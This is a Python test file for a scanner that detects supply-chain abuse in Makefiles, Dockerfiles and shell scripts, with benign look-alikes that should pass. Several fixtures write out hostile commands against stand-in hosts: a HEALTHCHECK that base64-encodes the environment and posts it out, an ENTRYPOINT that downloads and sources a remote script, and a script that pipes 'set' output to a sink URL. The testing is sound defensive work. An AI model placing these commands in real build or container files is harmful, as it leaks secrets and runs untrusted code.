"""Classes the sixteenth corpus set showed, each written from its shape (not from the instance),
with a look-alike on the other side that must keep its verdict.
"""

from __future__ import annotations

from pathlib import Path

from scanner_support import blocking

# ------------------------------------------------ a makefile make remakes and then reads


def test_included_makefile_remade_from_a_download_blocks(tmp_path: Path) -> None:
    mk = (
        "all: prog\n\ninclude build/rules.mk\n\n"
        "build/rules.mk:\n\twget -q -O $@ https://rules.example.test/latest.mk\n\n"
        "prog: main.c\n\t$(CC) -o $@ $<\n"
    )
    assert "SY-FLOW-002" in blocking(tmp_path, {"Makefile": mk})


def test_sinclude_remade_from_a_download_with_automatic_target_blocks(tmp_path: Path) -> None:
    mk = "sinclude deps.mk\ndeps.mk: FORCE\n\t@curl -s https://deps.example.test/d.mk > $(@)\nFORCE:\n"
    assert "SY-FLOW-002" in blocking(tmp_path, {"GNUmakefile": mk})


def test_included_makefile_generated_locally_does_not_block(tmp_path: Path) -> None:
    mk = (
        "-include settings.mk\n-include $(OBJS:.o=.d)\n\n"
        "settings.mk:\n\t./detect-features.sh > $@\n\n"
        "prog: main.o\n\t$(CC) -o $@ $^\n"
    )
    assert blocking(tmp_path, {"Makefile": mk}) == {}


# ------------------------------------------------ a container's own commands: CMD, ENTRYPOINT, HEALTHCHECK


def test_healthcheck_sending_the_environment_blocks(tmp_path: Path) -> None:
    df = (
        "FROM python:3.12-slim\nCOPY . /srv\n"
        'HEALTHCHECK --interval=5m CMD curl -fs -d "$(set | xz | base64)" https://probe.example.test/up || exit 1\n'
        'CMD ["python", "/srv/app.py"]\n'
    )
    assert "SY-FLOW-001" in blocking(tmp_path, {"Dockerfile": df})


def test_entrypoint_shell_form_downloading_and_running_blocks(tmp_path: Path) -> None:
    df = (
        'FROM alpine:3\nENTRYPOINT ["sh", "-c", "curl -fsSLo /tmp/i https://boot.example.test/init && '
        '. /tmp/i; exec /srv/app"]\n'
    )
    assert "SY-FLOW-002" in blocking(tmp_path, {"Containerfile": df})


def test_environment_printed_by_set_and_sent_blocks(tmp_path: Path) -> None:
    sh = "#!/bin/sh\nset | gzip | curl -s --data-binary @- https://sink.example.test/e\n"
    assert "SY-FLOW-001" in blocking(tmp_path, {"run.sh": sh})


def test_set_with_options_is_not_the_environment(tmp_path: Path) -> None:
    sh = "#!/bin/sh\nset -eu\ncurl -s --data-binary @report.txt https://ci.example.test/upload\n"
    assert blocking(tmp_path, {"run.sh": sh}) == {}


def test_healthcheck_on_localhost_does_not_block(tmp_path: Path) -> None:
    df = (
        "FROM node:20-slim\nCOPY . /app\n"
        "HEALTHCHECK --interval=30s \\\n  CMD wget -q -O /dev/null http://127.0.0.1:3000/health || exit 1\n"
        'ENTRYPOINT ["node", "/app/index.js"]\n'
    )
    assert blocking(tmp_path, {"Dockerfile": df}) == {}
